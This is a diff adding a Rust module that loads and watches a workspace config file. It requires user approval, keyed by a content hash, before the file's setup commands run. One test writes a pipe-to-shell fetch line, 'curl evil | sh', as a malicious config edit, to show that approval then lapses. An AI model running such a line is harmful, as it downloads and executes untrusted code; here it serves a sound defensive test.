@@ -0,0 +1,591 @@
+use std::collections::hash_map::Entry;
+use std::collections::{BTreeMap, HashMap};
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::sync::{Arc, Mutex, RwLock, Weak};
+
+use axum::http::StatusCode;
+use lw_config::{ConfigPaths, ProjectConfig, PROJECT_CONFIG_FILE};
+use lw_fs::FsWatcher;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use tokio::sync::broadcast;
+use tokio::task::JoinHandle;
+use tokio::time::Duration;
+use uuid::Uuid;
+
+use crate::error::{ApiError, ApiErrorResponse};
+use crate::state::AppState;
+
+/// A setup command still running after this long fails the session start.
+const SETUP_COMMAND_TIMEOUT: Duration = Duration::from_secs(10 * 60);
+/// Setup output returned with a failure, from the end.
+const SETUP_OUTPUT_TAIL_BYTES: usize = 4096;
+/// Records the approved config, in the workspace's data dir.
+const PROJECT_TRUST_FILE: &str = "project_trust.json";
+
+/// A workspace's `.loopwire.toml` as last read.
+#[derive(Debug, Clone, Default, PartialEq, Serialize)]
+pub struct LoadedProjectConfig {
+    /// The last config that parsed. An edit that breaks the file keeps it
+    /// in force, so that a typo does not unhide hidden paths.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub config: Option<ProjectConfig>,
+    /// Why the current file could not be used.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub error: Option<String>,
+    /// Fingerprint of `config`, sent back to approve it.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub digest: Option<String>,
+    /// Whether the user approved this exact config. A cloned repository
+    /// must not run commands on its own, so until then `setup`, `env`,
+    /// `agent` and `tasks` are ignored. `hidden` always applies.
+    pub trusted: bool,
+}
+
+impl LoadedProjectConfig {
+    /// The config if the user approved it; for everything but `hidden`.
+    pub fn trusted_config(&self) -> Option<&ProjectConfig> {
+        self.config.as_ref().filter(|_| self.trusted)
+    }
+}
+
+#[derive(Serialize, Deserialize)]
+struct ProjectTrust {
+    digest: String,
+}
+
+/// Sent whenever a workspace's config or config error changes.
+#[derive(Debug, Clone, Serialize)]
+pub struct ProjectConfigEvent {
+    pub workspace_id: Uuid,
+    #[serde(flatten)]
+    pub loaded: LoadedProjectConfig,
+}
+
+/// `.loopwire.toml` of every workspace in use, each read on first use and
+/// re-read whenever the file changes.
+pub struct ProjectConfigs {
+    paths: ConfigPaths,
+    loaded: RwLock<HashMap<Uuid, LoadedProjectConfig>>,
+    watchers: Mutex<HashMap<Uuid, JoinHandle<()>>>,
+    changes: broadcast::Sender<ProjectConfigEvent>,
+}
+
+impl ProjectConfigs {
+    pub fn new(paths: ConfigPaths) -> Self {
+        Self {
+            paths,
+            loaded: RwLock::new(HashMap::new()),
+            watchers: Mutex::new(HashMap::new()),
+            changes: broadcast::channel(64).0,
+        }
+    }
+
+    pub fn subscribe(&self) -> broadcast::Receiver<ProjectConfigEvent> {
+        self.changes.subscribe()
+    }
+
+    /// The workspace's config, read and watched from now on if this is the
+    /// first time it is asked for.
+    pub fn get(
+        self: &Arc<Self>,
+        fs_watcher: &Arc<FsWatcher>,
+        workspace_id: Uuid,
+        root: &Path,
+    ) -> LoadedProjectConfig {
+        let mut watchers = self.watchers.lock().unwrap_or_else(|e| e.into_inner());
+        if let Entry::Vacant(entry) = watchers.entry(workspace_id) {
+            let loaded = self.reload(workspace_id, root);
+            entry.insert(tokio::spawn(watch_project_config(
+                Arc::downgrade(self),
+                fs_watcher.clone(),
+                workspace_id,
+                root.to_path_buf(),
+            )));
+            return loaded;
+        }
+        drop(watchers);
+        self.loaded
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .get(&workspace_id)
+            .cloned()
+            .unwrap_or_default()
+    }
+
+    /// Stops watching a workspace that was removed.
+    pub fn forget(&self, workspace_id: &Uuid) {
+        if let Some(task) = self
+            .watchers
+            .lock()
+            .unwrap_or_else(|e| e.into_inner())
+            .remove(workspace_id)
+        {
+            task.abort();
+        }
+        self.loaded
+            .write()
+            .unwrap_or_else(|e| e.into_inner())
+            .remove(workspace_id);
+    }
+
+    /// Approves the config whose fingerprint is `digest`, or withdraws the
+    /// approval when `None`. Fails if the config changed in the meantime.
+    pub fn set_trusted(
+        &self,
+        workspace_id: Uuid,
+        digest: Option<&str>,
+    ) -> Result<LoadedProjectConfig, ApiErrorResponse> {
+        let mut loaded = self.loaded.write().unwrap_or_else(|e| e.into_inner());
+        let Some(current) = loaded.get_mut(&workspace_id) else {
+            return Err(ApiErrorResponse {
+                status: StatusCode::NOT_FOUND,
+                error: ApiError::not_found("Workspace"),
+            });
+        };
+        if digest.is_some() && digest != current.digest.as_deref() {
+            return Err(ApiErrorResponse {
+                status: StatusCode::CONFLICT,
+                error: ApiError::new(
+                    "CONFIG_CHANGED",
+                    format!("{PROJECT_CONFIG_FILE} changed since it was shown"),
+                ),
+            });
+        }
+        let path = self.trust_path(workspace_id);
+        let written = match digest {
+            Some(digest) => write_trust(&path, digest),
+            None => match std::fs::remove_file(&path) {
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
+                result => result,
+            },
+        };
+        written.map_err(|e| ApiErrorResponse {
+            status: StatusCode::INTERNAL_SERVER_ERROR,
+            error: ApiError::internal(format!("Failed to record approval: {e}")),
+        })?;
+        let changed = current.trusted != digest.is_some();
+        current.trusted = digest.is_some();
+        let current = current.clone();
+        drop(loaded);
+        if changed {
+            let _ = self.changes.send(ProjectConfigEvent {
+                workspace_id,
+                loaded: current.clone(),
+            });
+        }
+        Ok(current)
+    }
+
+    fn trust_path(&self, workspace_id: Uuid) -> PathBuf {
+        self.paths
+            .workspace_data_dir(workspace_id)
+            .join(PROJECT_TRUST_FILE)
+    }
+
+    fn trusted_digest(&self, workspace_id: Uuid) -> Option<String> {
+        let content = std::fs::read_to_string(self.trust_path(workspace_id)).ok()?;
+        let trust: ProjectTrust = serde_json::from_str(&content).ok()?;
+        Some(trust.digest)
+    }
+
+    /// Re-reads the file and announces the result if it differs.
+    fn reload(&self, workspace_id: Uuid, root: &Path) -> LoadedProjectConfig {
+        let mut loaded = self.loaded.write().unwrap_or_else(|e| e.into_inner());
+        let previous = loaded.get(&workspace_id).cloned();
+        let (config, error) = match ProjectConfig::load(root) {
+            Ok(config) => (config, None),
+            Err(err) => {
+                tracing::warn!(
+                    workspace_id = %workspace_id,
+                    "invalid {PROJECT_CONFIG_FILE}: {err:#}"
+                );
+                let config = previous.as_ref().and_then(|p| p.config.clone());
+                (config, Some(format!("{err:#}")))
+            }
+        };
+        let digest = config.as_ref().map(config_digest);
+        let trusted = digest.is_some() && digest == self.trusted_digest(workspace_id);
+        let current = LoadedProjectConfig {
+            config,
+            error,
+            digest,
+            trusted,
+        };
+        loaded.insert(workspace_id, current.clone());
+        drop(loaded);
+        if previous.is_some_and(|previous| previous != current) {
+            let _ = self.changes.send(ProjectConfigEvent {
+                workspace_id,
+                loaded: current.clone(),
+            });
+        }
+        current
+    }
+}
+
+/// Identifies a config by content, so that an approval lapses when the
+/// file is edited, e.g. by a pull.
+fn config_digest(config: &ProjectConfig) -> String {
+    let json = serde_json::to_vec(config).unwrap_or_default();
+    hex::encode(Sha256::digest(json))
+}
+
+fn write_trust(path: &Path, digest: &str) -> std::io::Result<()> {
+    if let Some(parent) = path.parent() {
+        std::fs::create_dir_all(parent)?;
+    }
+    let trust = ProjectTrust {
+        digest: digest.to_string(),
+    };
+    std::fs::write(path, serde_json::to_vec(&trust)?)
+}
+
+/// Re-reads the config; false once the configs are gone.
+fn reload_if_alive(configs: &Weak<ProjectConfigs>, workspace_id: Uuid, root: &Path) -> bool {
+    match configs.upgrade() {
+        Some(configs) => {
+            configs.reload(workspace_id, root);
+            true
+        }
+        None => false,
+    }
+}
+
+async fn watch_project_config(
+    configs: Weak<ProjectConfigs>,
+    fs_watcher: Arc<FsWatcher>,
+    workspace_id: Uuid,
+    root: PathBuf,
+) {
+    use broadcast::error::RecvError;
+    const DEBOUNCE: Duration = Duration::from_millis(100);
+    loop {
+        let mut events = match fs_watcher.watch(workspace_id, &root, ".").await {
+            Ok(events) => events,
+            Err(err) => {
+                tracing::debug!(
+                    workspace_id = %workspace_id,
+                    "not watching {PROJECT_CONFIG_FILE}: {err}"
+                );
+                return;
+            }
+        };
+        // Catch edits made while the watch was being set up.
+        if !reload_if_alive(&configs, workspace_id, &root) {
+            return;
+        }
+        loop {
+            match events.recv().await {
+                Ok(event) if event.path == PROJECT_CONFIG_FILE => {}
+                Ok(_) => continue,
+                Err(RecvError::Lagged(_)) => {}
+                // The shared watch was dropped by an `fs:unwatch`.
+                Err(RecvError::Closed) => break,
+            }
+            // Editors save in several steps; read once they are done.
+            tokio::time::sleep(DEBOUNCE).await;
+            while events.try_recv().is_ok() {}
+            if !reload_if_alive(&configs, workspace_id, &root) {
+                return;
+            }
+        }
+    }
+}
+
+/// The config of a registered workspace; empty for unknown ones.
+pub async fn workspace_project_config(state: &AppState, workspace_id: Uuid) -> LoadedProjectConfig {
+    match state.workspace_registry.get_root(&workspace_id).await {
+        Ok(root) => state
+            .project_configs
+            .get(&state.fs_watcher, workspace_id, &root),
+        Err(_) => LoadedProjectConfig::default(),
+    }
+}
+
+/// Approves the workspace's current config, as the user would.
+#[cfg(test)]
+pub(crate) async fn trust_workspace_config(state: &AppState, workspace_id: Uuid) {
+    let digest = workspace_project_config(state, workspace_id).await.digest;
+    state
+        .project_configs
+        .set_trusted(workspace_id, digest.as_deref())
+        .unwrap();
+}
+
+/// The `hidden` patterns of a workspace, checked against resolved paths.
+pub(crate) struct HiddenPaths {
+    root: PathBuf,
+    config: Option<ProjectConfig>,
+}
+
+impl HiddenPaths {
+    pub(crate) async fn of(state: &AppState, workspace_id: &Uuid) -> Self {
+        let root = state
+            .workspace_registry
+            .get_root(workspace_id)
+            .await
+            .unwrap_or_default();
+        Self {
+            config: workspace_project_config(state, *workspace_id).await.config,
+            root,
+        }
+    }
+
+    pub(crate) fn is_hidden(&self, path: &Path) -> bool {
+        let Some(config) = &self.config else {
+            return false;
+        };
+        path.strip_prefix(&self.root)
+            .is_ok_and(|relative| config.is_hidden(relative))
+    }
+
+    /// `is_hidden` for a path relative to the workspace root.
+    pub(crate) fn is_hidden_relative(&self, relative_path: &str) -> bool {
+        self.is_hidden(&self.root.join(relative_path))
+    }
+
+    /// The patterns of each registered workspace containing `path`, for
+    /// endpoints that take absolute paths.
+    pub(crate) async fn containing(state: &AppState, path: &Path) -> Vec<Self> {
+        let mut all = Vec::new();
+        for workspace_id in state.workspace_registry.containing(path).await {
+            all.push(Self::of(state, &workspace_id).await);
+        }
+        all
+    }
+
+    /// Answers for a hidden path as if it did not exist.
+    pub(crate) fn check(&self, path: &Path) -> Result<(), ApiErrorResponse> {
+        if self.is_hidden(path) {
+            return Err(ApiError::fs_error(&lw_fs::FsError::NotFound).into());
+        }
+        Ok(())
+    }
+}
+
+/// Runs the workspace's `setup` commands in `dir`, one after the other.
+pub(crate) async fn run_setup_commands(
+    commands: &[String],
+    dir: &Path,
+    env: &BTreeMap<String, String>,
+) -> Result<(), ApiErrorResponse> {
+    for command in commands {
+        run_setup_command(command, dir, env).await?;
+    }
+    Ok(())
+}
+
+async fn run_setup_command(
+    command: &str,
+    dir: &Path,
+    env: &BTreeMap<String, String>,
+) -> Result<(), ApiErrorResponse> {
+    let failed = |message: String, output: &[u8]| {
+        let tail = &output[output.len().saturating_sub(SETUP_OUTPUT_TAIL_BYTES)..];
+        let mut error = ApiError::new("SETUP_FAILED", message);
+        error.details = Some(serde_json::json!({
+            "command": command,
+            "output": String::from_utf8_lossy(tail),
+        }));
+        ApiErrorResponse {
+            status: StatusCode::UNPROCESSABLE_ENTITY,
+            error,
+        }
+    };
+
+    #[cfg(unix)]
+    let mut process = tokio::process::Command::new("sh");
+    #[cfg(unix)]
+    process.arg("-c");
+    #[cfg(not(unix))]
+    let mut process = tokio::process::Command::new("cmd");
+    #[cfg(not(unix))]
+    process.arg("/C");
+    process
+        .arg(command)
+        .current_dir(dir)
+        .envs(env)
+        .stdin(Stdio::null())
+        .kill_on_drop(true);
+
+    let output = match tokio::time::timeout(SETUP_COMMAND_TIMEOUT, process.output()).await {
+        Ok(Ok(output)) => output,
+        Ok(Err(err)) => return Err(failed(format!("Failed to run `{command}`: {err}"), &[])),
+        Err(_) => {
+            return Err(failed(
+                format!(
+                    "`{command}` did not finish within {} seconds",
+                    SETUP_COMMAND_TIMEOUT.as_secs()
+                ),
+                &[],
+            ))
+        }
+    };
+    if !output.status.success() {
+        let mut combined = output.stdout;
+        combined.extend_from_slice(&output.stderr);
+        return Err(failed(
+            format!("Setup command `{command}` failed ({})", output.status),
+            &combined,
+        ));
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[tokio::test]
+    async fn config_is_inert_until_approved() {
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().join("repo");
+        std::fs::create_dir(&workspace).unwrap();
+        let file = workspace.join(PROJECT_CONFIG_FILE);
+        std::fs::write(&file, "setup = [\"make\"]").unwrap();
+        let state = AppState::for_test(dir.path(), |_| {});
+        let id = Uuid::new_v4();
+        state
+            .workspace_registry
+            .register(id, workspace.clone())
+            .await
+            .unwrap();
+
+        let loaded = workspace_project_config(&state, id).await;
+        assert!(!loaded.trusted);
+        assert!(loaded.trusted_config().is_none());
+        let err = state
+            .project_configs
+            .set_trusted(id, Some("stale"))
+            .unwrap_err();
+        assert_eq!(err.status, StatusCode::CONFLICT);
+
+        let approved = state
+            .project_configs
+            .set_trusted(id, loaded.digest.as_deref())
+            .unwrap();
+        assert_eq!(approved.trusted_config().unwrap().setup, vec!["make"]);
+
+        // The approval outlives the daemon but not an edit of the file.
+        let state = AppState::for_test(dir.path(), |_| {});
+        state
+            .workspace_registry
+            .register(id, workspace.clone())
+            .await
+            .unwrap();
+        assert!(workspace_project_config(&state, id).await.trusted);
+        std::fs::write(&file, "setup = [\"curl evil | sh\"]").unwrap();
+        state.project_configs.reload(id, &workspace);
+        assert!(!workspace_project_config(&state, id).await.trusted);
+
+        state.project_configs.set_trusted(id, None).unwrap();
+        std::fs::write(&file, "setup = [\"make\"]").unwrap();
+        state.project_configs.reload(id, &workspace);
+        assert!(!workspace_project_config(&state, id).await.trusted);
+    }
+
+    #[tokio::test]
+    async fn config_is_reloaded_when_the_file_changes() {
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().join("repo");
+        std::fs::create_dir(&workspace).unwrap();
+        let file = workspace.join(PROJECT_CONFIG_FILE);
+        std::fs::write(&file, "hidden = [\".env\"]").unwrap();
+        let state = AppState::for_test(dir.path(), |_| {});
+        let id = Uuid::new_v4();
+        state
+            .workspace_registry
+            .register(id, workspace.clone())
+            .await
+            .unwrap();
+        let mut changes = state.project_configs.subscribe();
+
+        let loaded = workspace_project_config(&state, id).await;
+        assert_eq!(loaded.config.unwrap().hidden, vec![".env"]);
+
+        // Let the watch start before editing.
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        std::fs::write(&file, "setup = [\"true\"]").unwrap();
+        let event = tokio::time::timeout(Duration::from_secs(10), changes.recv())
+            .await
+            .expect("no reload")
+            .unwrap();
+        assert_eq!(event.workspace_id, id);
+        assert_eq!(event.loaded.config.unwrap().setup, vec!["true"]);
+
+        // A broken file keeps the last good config.
+        std::fs::write(&file, "setup = ").unwrap();
+        let event = tokio::time::timeout(Duration::from_secs(10), changes.recv())
+            .await
+            .expect("no reload")
+            .unwrap();
+        assert!(event.loaded.error.is_some());
+        assert_eq!(event.loaded.config.unwrap().setup, vec!["true"]);
+
+        state.project_configs.forget(&id);
+        assert_eq!(state.project_configs.loaded.read().unwrap().get(&id), None);
+    }
+
+    #[tokio::test]
+    async fn hidden_paths_are_reported_missing() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(PROJECT_CONFIG_FILE),
+            "hidden = [\"secrets/\"]",
+        )
+        .unwrap();
+        let state = AppState::for_test(dir.path(), |_| {});
+        let id = Uuid::new_v4();
+        state
+            .workspace_registry
+            .register(id, dir.path().to_path_buf())
+            .await
+            .unwrap();
+        let root = state.workspace_registry.get_root(&id).await.unwrap();
+
+        let hidden = HiddenPaths::of(&state, &id).await;
+        let err = hidden.check(&root.join("secrets/key.pem")).unwrap_err();
+        assert_eq!(err.status, StatusCode::NOT_FOUND);
+        assert!(hidden.check(&root.join("src/main.rs")).is_ok());
+        assert!(!HiddenPaths::of(&state, &Uuid::new_v4())
+            .await
+            .is_hidden(&root.join("secrets")));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn setup_commands_run_in_order_and_stop_at_a_failure() {
+        let dir = tempfile::tempdir().unwrap();
+        let env = BTreeMap::from([("GREETING".to_string(), "hi".to_string())]);
+        run_setup_commands(
+            &[
+                "echo $GREETING > setup.txt".to_string(),
+                "echo again >> setup.txt".to_string(),
+            ],
+            dir.path(),
+            &env,
+        )
+        .await
+        .unwrap_or_else(|e| panic!("setup failed: {}", e.error.message));
+        assert_eq!(
+            std::fs::read_to_string(dir.path().join("setup.txt")).unwrap(),
+            "hi\nagain\n"
+        );
+
+        let err = run_setup_commands(
+            &[
+                "echo broken >&2; exit 3".to_string(),
+                "touch never".to_string(),
+            ],
+            dir.path(),
+            &env,
+        )
+        .await
+        .unwrap_err();
+        assert_eq!(err.error.code, "SETUP_FAILED");
+        assert_eq!(err.error.details.unwrap()["output"], "broken\n");
+        assert!(!dir.path().join("never").exists());
+    }
+}